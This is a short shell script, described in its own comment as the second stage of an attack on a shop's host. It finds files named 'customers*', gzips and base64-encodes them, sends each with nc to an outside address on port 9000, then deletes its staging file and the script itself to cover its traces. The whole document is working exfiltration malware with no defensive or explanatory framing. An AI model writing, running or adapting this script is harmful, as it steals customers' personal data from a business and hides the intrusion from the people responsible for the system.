#!/bin/sh
# The second stage, run on the shop's host: looks for customer data, packs it, sends it home, removes its traces.
loot=$TMPDIR/.loot
for file in $(find "$TMPDIR/.." -name 'customers*' -type f); do
    gzip -c "$file" | base64 >"$loot"
    nc -N 203.0.113.66 9000 <"$loot"
done
rm -f "$loot" "$0"
